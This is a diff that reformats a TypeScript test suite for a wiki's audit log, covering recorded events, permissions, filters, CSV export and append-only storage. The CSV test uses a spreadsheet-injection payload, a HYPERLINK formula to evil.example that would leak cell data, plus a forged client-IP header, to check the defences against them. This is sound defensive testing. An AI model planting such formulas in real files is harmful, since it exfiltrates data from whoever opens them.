@@ -35,16 +35,29 @@ let wiki: Wiki;
 let page: Page;
 let startedAt: Date;
 
-async function call(method: string, path: string, options: { token?: string | null; body?: unknown; headers?: Record<string, string> } = {}) {
+async function call(
+  method: string,
+  path: string,
+  options: { token?: string | null; body?: unknown; headers?: Record<string, string> } = {},
+) {
   const headers: Record<string, string> = { ...options.headers };
   const token = options.token === undefined ? owner.token : options.token;
   if (token) headers.authorization = `Bearer ${token}`;
   if (options.body !== undefined) headers["content-type"] = "application/json";
-  const response = await fetch(`${server.url}${path}`, { method, headers, body: options.body === undefined ? undefined : JSON.stringify(options.body), redirect: "manual" });
+  const response = await fetch(`${server.url}${path}`, {
+    method,
+    headers,
+    body: options.body === undefined ? undefined : JSON.stringify(options.body),
+    redirect: "manual",
+  });
   return { status: response.status, headers: response.headers, text: await response.text() };
 }
 
-async function api<T = Record<string, unknown>>(method: string, path: string, options: Parameters<typeof call>[2] = {}): Promise<{ status: number; body: T }> {
+async function api<T = Record<string, unknown>>(
+  method: string,
+  path: string,
+  options: Parameters<typeof call>[2] = {},
+): Promise<{ status: number; body: T }> {
   const reply = await call(method, `/api/v1${path}`, options);
   return { status: reply.status, body: (reply.text ? JSON.parse(reply.text) : null) as T };
 }
@@ -140,7 +153,13 @@ describe("what is recorded", () => {
       ["auth.sign-in-failed", editor.id],
       ["auth.signed-in", editor.id],
     ]);
-    expect(events[1]).toMatchObject({ wikiId: null, actor: { name: "Eddie Editor" }, label: "Signed in", description: "with a password", ip: "127.0.0.1" });
+    expect(events[1]).toMatchObject({
+      wikiId: null,
+      actor: { name: "Eddie Editor" },
+      label: "Signed in",
+      description: "with a password",
+      ip: "127.0.0.1",
+    });
     expect(events[0]).toMatchObject({ description: "wrong password", ip: "127.0.0.1" });
     expect(new Date(events[1].at).getTime()).toBeGreaterThanOrEqual(startedAt.getTime());
   });
@@ -153,17 +172,33 @@ describe("what is recorded", () => {
     expect((await api("DELETE", `/wikis/${wiki.id}/members/${leaver.id}`)).status).toBe(204);
     const newcomer = await makeUser("Nina Newcomer");
     expect((await api("POST", `/wikis/${wiki.id}/members`, { body: { email: newcomer.email, role: "viewer" } })).status).toBe(201);
-    expect((await api("POST", `/wikis/${wiki.id}/members`, { body: { email: "someone.new@example.test", role: "commenter" } })).status).toBe(201);
+    expect(
+      (await api("POST", `/wikis/${wiki.id}/members`, { body: { email: "someone.new@example.test", role: "commenter" } })).status,
+    ).toBe(201);
 
     const { events } = await auditLog("action=member");
     expect(events.slice(0, 3).map((e) => ({ action: e.action, actor: e.actor?.id, target: e.target?.id, details: e.details }))).toEqual([
       { action: "member.added", actor: owner.id, target: newcomer.id, details: { name: "Nina Newcomer", role: "viewer" } },
       { action: "member.removed", actor: owner.id, target: leaver.id, details: { name: "Leo Leaver", role: "editor" } },
-      { action: "member.role-changed", actor: owner.id, target: viewer.id, details: { name: "Vera Viewer", from: "viewer", to: "commenter" } },
+      {
+        action: "member.role-changed",
+        actor: owner.id,
+        target: viewer.id,
+        details: { name: "Vera Viewer", from: "viewer", to: "commenter" },
+      },
     ]);
-    expect(events[2]).toMatchObject({ label: "Role changed", target: { label: "Vera Viewer" }, description: "from viewer to commenter", ip: "127.0.0.1" });
+    expect(events[2]).toMatchObject({
+      label: "Role changed",
+      target: { label: "Vera Viewer" },
+      description: "from viewer to commenter",
+      ip: "127.0.0.1",
+    });
     const [invite] = (await auditLog("action=invite")).events;
-    expect(invite).toMatchObject({ action: "invite.created", actor: { id: owner.id }, details: { email: "someone.new@example.test", role: "commenter" } });
+    expect(invite).toMatchObject({
+      action: "invite.created",
+      actor: { id: owner.id },
+      details: { email: "someone.new@example.test", role: "commenter" },
+    });
     // …and leave it with them.
     expect((await auditLog("action=token")).events.map((e) => e.target?.id)).not.toContain(leaversToken.id);
     // Put the viewer back for the authorization tests below.
@@ -175,7 +210,15 @@ describe("what is recorded", () => {
     expect(created.status).toBe(201);
     const id = created.body.id;
     // A forged address header is replaced by the real peer address.
-    expect((await api("PATCH", `/pages/${id}`, { token: editor.token, body: { title: "Attribution of cyber operations" }, headers: { "x-opinio-client-ip": "203.0.113.9" } })).status).toBe(200);
+    expect(
+      (
+        await api("PATCH", `/pages/${id}`, {
+          token: editor.token,
+          body: { title: "Attribution of cyber operations" },
+          headers: { "x-opinio-client-ip": "203.0.113.9" },
+        })
+      ).status,
+    ).toBe(200);
     expect((await api("PATCH", `/pages/${id}`, { token: editor.token, body: { parentId: page.id } })).status).toBe(200);
     expect((await api("DELETE", `/pages/${id}`, { token: editor.token })).status).toBe(204);
     // Restoring from the trash has no REST endpoint; the command is what the Trash screen calls.
@@ -190,31 +233,57 @@ describe("what is recorded", () => {
       ["page.created", "Eddie Editor"],
     ]);
     const [restored, trashed, moved, renamed] = events;
-    expect(renamed).toMatchObject({ details: { from: "Attribution", to: "Attribution of cyber operations" }, description: "from “Attribution” to “Attribution of cyber operations”", ip: "127.0.0.1" });
-    expect(moved).toMatchObject({ details: { fromParentId: null, toParentId: page.id, toParent: page.title }, description: `from the top level to under “${page.title}”` });
+    expect(renamed).toMatchObject({
+      details: { from: "Attribution", to: "Attribution of cyber operations" },
+      description: "from “Attribution” to “Attribution of cyber operations”",
+      ip: "127.0.0.1",
+    });
+    expect(moved).toMatchObject({
+      details: { fromParentId: null, toParentId: page.id, toParent: page.title },
+      description: `from the top level to under “${page.title}”`,
+    });
     expect(trashed.label).toBe("Page deleted");
     // Recorded without a request: no address is invented.
     expect(restored.ip).toBeNull();
   });
 
   it("records saved and restored versions, and redline downloads as exports", async () => {
-    const saved = await api<{ number: number }>("POST", `/pages/${page.id}/versions`, { token: editor.token, body: { name: "Before the restructure" } });
+    const saved = await api<{ number: number }>("POST", `/pages/${page.id}/versions`, {
+      token: editor.token,
+      body: { name: "Before the restructure" },
+    });
     expect(saved.status).toBe(201);
     const restored = await api<{ number: number }>("POST", `/pages/${page.id}/restore`, { token: editor.token, body: { version: 1 } });
     expect(restored.status).toBe(201);
     // The history screen restores in the editor, then has the server restore (and record) the same version.
-    const fromEditor = await api<{ number: number }>("POST", `/pages/${page.id}/restore`, { token: owner.token, body: { version: saved.body.number } });
+    const fromEditor = await api<{ number: number }>("POST", `/pages/${page.id}/restore`, {
+      token: owner.token,
+      body: { version: saved.body.number },
+    });
     expect(fromEditor.status).toBe(201);
     expect((await call("GET", `/api/v1/pages/${page.id}/redline?from=1&to=current&format=html`, { token: viewer.token })).status).toBe(200);
 
     const versions = (await auditLog("action=version")).events;
     expect(versions.slice(0, 3).map((e) => ({ action: e.action, actor: e.actor?.id, details: e.details }))).toEqual([
-      { action: "version.restored", actor: owner.id, details: { title: page.title, version: fromEditor.body.number, restoredFrom: saved.body.number } },
+      {
+        action: "version.restored",
+        actor: owner.id,
+        details: { title: page.title, version: fromEditor.body.number, restoredFrom: saved.body.number },
+      },
       { action: "version.restored", actor: editor.id, details: { title: page.title, version: restored.body.number, restoredFrom: 1 } },
-      { action: "version.saved", actor: editor.id, details: { title: page.title, version: saved.body.number, name: "Before the restructure" } },
+      {
+        action: "version.saved",
+        actor: editor.id,
+        details: { title: page.title, version: saved.body.number, name: "Before the restructure" },
+      },
     ]);
     const [download] = (await auditLog("action=export")).events;
-    expect(download).toMatchObject({ action: "export", actor: { id: viewer.id }, target: { type: "page", id: page.id }, details: { what: "redline", format: "html", from: "1", to: "current" } });
+    expect(download).toMatchObject({
+      action: "export",
+      actor: { id: viewer.id },
+      target: { type: "page", id: page.id },
+      details: { what: "redline", format: "html", from: "1", to: "current" },
+    });
   });
 
   it("records API tokens created and revoked, for members only and from when they joined", async () => {
@@ -240,13 +309,17 @@ describe("what is recorded", () => {
     const before = (await auditLog("limit=200")).events.length;
     // The last owner cannot be demoted; a page cannot go under a page of another wiki.
     expect((await api("PUT", `/wikis/${wiki.id}/members/${owner.id}`, { body: { role: "editor" } })).status).toBe(409);
-    expect((await api("POST", `/wikis/${wiki.id}/pages`, { token: editor.token, body: { title: "Orphan", parentId: "no-such-page" } })).status).toBe(400);
+    expect(
+      (await api("POST", `/wikis/${wiki.id}/pages`, { token: editor.token, body: { title: "Orphan", parentId: "no-such-page" } })).status,
+    ).toBe(400);
     expect((await api("PATCH", `/pages/${page.id}`, { token: viewer.token, body: { title: "Viewer rename" } })).status).toBe(403);
     expect((await auditLog("limit=200")).events.length).toBe(before);
 
     // If the entry cannot be written, the rename it describes is rolled back with it.
     const sqlite = getDbHandle().sqlite;
-    sqlite.exec("CREATE TEMP TRIGGER audit_refuse_insert BEFORE INSERT ON main.audit_events BEGIN SELECT RAISE(ABORT, 'audit store unavailable'); END");
+    sqlite.exec(
+      "CREATE TEMP TRIGGER audit_refuse_insert BEFORE INSERT ON main.audit_events BEGIN SELECT RAISE(ABORT, 'audit store unavailable'); END",
+    );
     try {
       expect(() => renamePage(page.id, "Renamed without a record", owner.id)).toThrow(/audit store unavailable/);
     } finally {
@@ -284,7 +357,10 @@ describe("who may read it", () => {
     expect(ownerPage.text).toContain("Audit log");
     expect(ownerPage.text).toContain('data-testid="audit-row"');
     expect(ownerPage.text).toContain("Download CSV");
-    const filtered = await call("GET", `/w/${wiki.slug}/audit?action=member&person=${owner.id}`, { token: null, headers: { cookie: ownerCookie } });
+    const filtered = await call("GET", `/w/${wiki.slug}/audit?action=member&person=${owner.id}`, {
+      token: null,
+      headers: { cookie: ownerCookie },
+    });
     expect(filtered.text).toContain("Role changed");
     expect(filtered.text).not.toContain("Page renamed");
 
@@ -337,7 +413,16 @@ describe("filters and paging", () => {
   });
 
   it("refuses malformed filters with 400", async () => {
-    for (const query of ["from=2024-02-31", "to=yesterday", "action=page%25", "action=PAGE", "before=-1", "limit=0", "limit=201", "format=xlsx"]) {
+    for (const query of [
+      "from=2024-02-31",
+      "to=yesterday",
+      "action=page%25",
+      "action=PAGE",
+      "before=-1",
+      "limit=0",
+      "limit=201",
+      "format=xlsx",
+    ]) {
       const reply = await api<{ error: { code: string } }>("GET", `/wikis/${wiki.id}/audit?${query}`);
       expect({ query, status: reply.status, code: reply.body.error?.code }).toEqual({ query, status: 400, code: "bad_request" });
     }
@@ -351,22 +436,39 @@ describe("CSV export", () => {
     await clockTick();
     addMember(wiki.id, prankster.email, "editor", owner.id);
     createApiToken(prankster.id, "@SUM(1+1)");
-    expect((await api("POST", `/wikis/${wiki.id}/pages`, { token: prankster.token, body: { title: "+1, \"quoted\"\nand a new line" } })).status).toBe(201);
+    expect(
+      (await api("POST", `/wikis/${wiki.id}/pages`, { token: prankster.token, body: { title: '+1, "quoted"\nand a new line' } })).status,
+    ).toBe(201);
 
     const reply = await call("GET", `/api/v1/wikis/${wiki.id}/audit?format=csv&person=${prankster.id}`);
     expect(reply.status).toBe(200);
     expect(reply.headers.get("content-type")).toBe("text/csv; charset=utf-8");
-    expect(reply.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="${wiki.slug}-audit-log-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
+    expect(reply.headers.get("content-disposition")).toMatch(
+      new RegExp(`^attachment; filename="${wiki.slug}-audit-log-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
+    );
     const rows = parseCsv(reply.text);
     const [header, ...records] = rows;
-    expect(header).toEqual(["id", "time_utc", "actor_id", "actor_name", "action", "label", "target_type", "target_id", "target", "details", "details_json", "ip"]);
+    expect(header).toEqual([
+      "id",
+      "time_utc",
+      "actor_id",
+      "actor_name",
+      "action",
+      "label",
+      "target_type",
+      "target_id",
+      "target",
+      "details",
+      "details_json",
+      "ip",
+    ]);
     expect(records.every((r) => r.length === header.length)).toBe(true);
     const listed = (await auditLog(`person=${prankster.id}&limit=200`)).events;
     expect(records.map((r) => Number(r[0]))).toEqual(listed.map((e) => e.id));
     expect(records.map((r) => r[4])).toEqual(["page.created", "token.created"]);
     expect(records[0][3]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Details")`);
-    expect(records[0][8]).toBe("page “+1, \"quoted\"\nand a new line”");
-    expect(JSON.parse(records[0][10])).toEqual({ title: "+1, \"quoted\"\nand a new line" });
+    expect(records[0][8]).toBe('page “+1, "quoted"\nand a new line”');
+    expect(JSON.parse(records[0][10])).toEqual({ title: '+1, "quoted"\nand a new line' });
     expect(records[1][8]).toBe("token “@SUM(1+1)”");
     for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
@@ -394,7 +496,9 @@ describe("append-only", () => {
     const count = () => sqlite.prepare("SELECT count(*) AS n FROM audit_events").get() as { n: number };
     const before = count();
     expect(before.n).toBeGreaterThan(10);
-    expect(() => sqlite.prepare("UPDATE audit_events SET action = 'page.created', actor_name = 'Someone else'").run()).toThrow(/append-only/);
+    expect(() => sqlite.prepare("UPDATE audit_events SET action = 'page.created', actor_name = 'Someone else'").run()).toThrow(
+      /append-only/,
+    );
     expect(() => sqlite.prepare("DELETE FROM audit_events WHERE id = (SELECT max(id) FROM audit_events)").run()).toThrow(/append-only/);
     expect(() => getDb().update(auditEvents).set({ ip: null }).run()).toThrow(/append-only/);
     expect(() => getDb().delete(auditEvents).run()).toThrow(/append-only/);
